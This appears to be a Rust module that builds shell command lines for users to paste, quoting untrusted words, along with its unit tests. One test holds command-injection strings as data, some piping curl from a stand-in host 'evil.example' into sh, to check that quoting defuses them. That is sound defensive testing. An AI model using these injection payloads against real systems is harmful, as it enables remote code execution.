//! Commands that are printed for somebody to type or to paste.

use std::fmt;

use crate::printable::word;

/// A command line for a shell. What the program says itself stands in it as it is; what anybody else said (a name from the
/// cluster, an argument) is quoted, so that a shell gives back exactly that word.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Shell(String);

/// A command that begins with these words of the program's own.
pub fn shell(words: &'static str) -> Shell {
    Shell(words.to_owned())
}

impl Shell {
    /// A command that begins with these words, which are the program's own too: its name, or that of a subcommand.
    pub(crate) fn of_words(words: &str) -> Self {
        Self(words.to_owned())
    }

    /// More words of the program's own, such as a flag.
    #[must_use]
    pub fn then(self, words: &'static str) -> Self {
        self.push(words)
    }

    /// One word of somebody else's.
    #[must_use]
    pub fn arg(self, text: impl fmt::Display) -> Self {
        self.push(&word(&text.to_string()))
    }

    /// Several words of somebody else's.
    #[must_use]
    pub fn args(self, texts: impl IntoIterator<Item = impl fmt::Display>) -> Self {
        texts.into_iter().fold(self, Self::arg)
    }

    /// A flag of the program's own and its value in one word: `--tail=5`.
    #[must_use]
    pub fn equals(self, flag: &'static str, value: impl fmt::Display) -> Self {
        self.push(&format!("{flag}={}", word(&value.to_string())))
    }

    /// The flag for a namespace.
    #[must_use]
    pub fn in_namespace(self, namespace: impl fmt::Display) -> Self {
        self.then("-n").arg(namespace)
    }

    /// All the words of another one.
    #[must_use]
    pub fn and(self, other: &Self) -> Self {
        self.push(&other.0)
    }

    /// Its first word, such as a flag.
    pub fn first(&self) -> &str {
        self.0.split(' ').next().unwrap_or_default()
    }

    /// A flag of the program's own and its value, where there is one.
    #[must_use]
    pub fn option(self, flag: &'static str, value: Option<impl fmt::Display>) -> Self {
        match value {
            Some(value) => self.then(flag).arg(value),
            None => self,
        }
    }

    fn push(mut self, words: &str) -> Self {
        self.0.push(' ');
        self.0.push_str(words);
        self
    }
}

impl From<&'static str> for Shell {
    fn from(words: &'static str) -> Self {
        shell(words)
    }
}

impl fmt::Display for Shell {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

#[cfg(test)]
mod tests {
    use std::process::Command;

    use super::*;

    #[test]
    fn flags_are_put_together() {
        let flag = shell("--host").arg("a b");
        assert_eq!(flag.first(), "--host");
        let command = shell("x").and(&flag).args(["c", "d e"]).in_namespace("f");
        assert_eq!(command.to_string(), "x --host 'a b' c 'd e' -n f");
    }

    #[test]
    fn a_shell_gives_back_the_words_that_were_meant() {
        for text in [
            "bob",
            "bob; curl -s https://evil.example/x|sh #",
            "user:x;curl${IFS}evil.example|sh",
            "$(id)",
            "`id`",
            "a'b\"c",
            "* ? [a] {b,c} ~ ~root",
            "!history",
            "a\\b",
            "",
            "бob",
            "=ls",
            "a=b",
            "%1",
        ] {
            let line = shell("printf '%s\\n'")
                .arg(text)
                .then("--with")
                .arg(text)
                .equals("--as", text)
                .to_string();
            let said = Command::new("sh")
                .args(["-c", &line])
                .output()
                .expect("sh runs");
            assert_eq!(
                String::from_utf8_lossy(&said.stdout),
                format!("{text}\n--with\n{text}\n--as={text}\n"),
                "{line}"
            );
        }
    }
}
